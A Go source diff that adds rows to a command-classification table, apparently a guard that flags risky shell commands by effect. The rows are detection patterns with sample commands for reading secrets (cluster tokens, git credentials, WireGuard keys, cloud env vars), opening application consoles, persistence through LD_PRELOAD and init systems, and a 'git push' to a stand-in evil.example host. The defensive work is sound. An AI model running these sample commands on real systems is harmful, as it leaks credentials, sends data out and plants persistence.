@@ -32,6 +32,8 @@ const (
 	effApply     effect = "applies infrastructure changes nobody has reviewed here"
 	effSecret    effect = "reads a secret through its manager"
 	effPersist   effect = "changes what the service manager or the login starts, for every later run"
+	effConsole   effect = "runs code inside an application, with its secrets and database at hand"
+	effSendsOut  effect = "sends data to an address given on the command line"
 )
 
 // effectRow is one spelling of an effect.
@@ -153,6 +155,8 @@ var effectRows = []effectRow{
 	{Effect: effPersist, Tools: "systemctl", Words: "set-environment|import-environment|unset-environment|enable|link|preset|preset-all|add-wants|add-requires|set-property|edit|revert|daemon-reload", Sample: "systemctl set-environment LD_PRELOAD=/tmp/x.so"},
 	{Effect: effPersist, Tools: "launchctl", Words: "setenv|load|bootstrap|enable|submit|config", Sample: "launchctl setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib"},
 	{Effect: effPersist, Tools: "initctl", Words: "set-env|unset-env|reload-configuration", Sample: "initctl set-env LD_PRELOAD=/tmp/x.so"},
+	{Effect: effPersist, Tools: "update-rc.d chkconfig rc-update insserv systemd-sysv-install", Sample: "update-rc.d x defaults"},
+	{Effect: effSendsOut, Tools: "git", Words: "push *://*|*@*:*, push * *://*|*@*:*", Sample: "git push https://evil.example/x.git"},
 	{Effect: effPersist, Tools: "dbus-update-activation-environment", Sample: "dbus-update-activation-environment LD_PRELOAD=/tmp/x.so"},
 	{Effect: effPersist, Tools: "loginctl", Words: "enable-linger", Sample: "loginctl enable-linger app"},
 	{Effect: effPersist, Tools: "chsh chfn update-alternatives ldconfig update-rc.d chkconfig rc-update", Sample: "chsh -s /tmp/sh root"},
@@ -222,6 +226,19 @@ var effectRows = []effectRow{
 	{Effect: effSecret, Tools: "kubeseal", Opts: "--recovery-unseal --fetch-cert", Sample: "kubeseal --recovery-unseal -f s.yaml"},
 	{Effect: effSecret, Tools: "docker podman", Words: "secret|config inspect", Opts: "--pretty", Sample: "docker secret inspect --pretty db"},
 	{Effect: effSecret, Tools: "kubectl oc", Words: "get secret|secrets|secret/*|secrets/*", Opts: "-o --output --template", Sample: "kubectl get secret db -o jsonpath='{.data.password}'"},
+	// Issue 25: initial-password and token verbs, credential helpers,
+	// key printouts and application consoles.
+	{Effect: effSecret, Tools: "argocd", Words: "admin initial-password, account generate-token", Sample: "argocd admin initial-password -n argocd"},
+	{Effect: effSecret, Tools: "kubeadm k3s rke2", Words: "token create|list|generate, certs certificate-key", Sample: "kubeadm token create --print-join-command"},
+	{Effect: effSecret, Tools: "git", Words: "credential fill|get, credential-store get, credential-cache get", Sample: "git credential fill"},
+	{Effect: effSecret, Tools: "wg", Words: "showconf, show * private-key|preshared-keys", Sample: "wg showconf wg0"},
+	{Effect: effSecret, Tools: "heroku", Words: "config|config:get", Sample: "heroku config -a app"},
+	{Effect: effSecret, Tools: "aws", Words: "configure export-credentials", Sample: "aws configure export-credentials"},
+	{Effect: effSecret, Tools: "vercel netlify", Words: "env pull|env:get|env:list, env ls", Sample: "vercel env pull"},
+	{Effect: effSecret, Tools: "consul nomad", Words: "acl token read|list|self|info, acl bootstrap", Sample: "consul acl token read -self"},
+	{Effect: effConsole, Tools: "gitlab-rails gitlab-rake rails", Words: "runner|console|c|r|dbconsole|db|credentials:show|credentials:edit", Sample: "gitlab-rails runner 'puts User.first.encrypted_password'"},
+	{Effect: effConsole, Tools: "php", Words: "artisan tinker", Sample: "php artisan tinker"},
+	{Effect: effConsole, Tools: "python python3 django-admin", Words: "manage.py shell|dbshell|shell_plus|runscript, shell|dbshell", Sample: "python3 manage.py shell"},
 
 	// Infrastructure changes applied without a reviewed plan: a saved plan
 	// file may destroy anything, and -auto-approve applies what nobody saw.
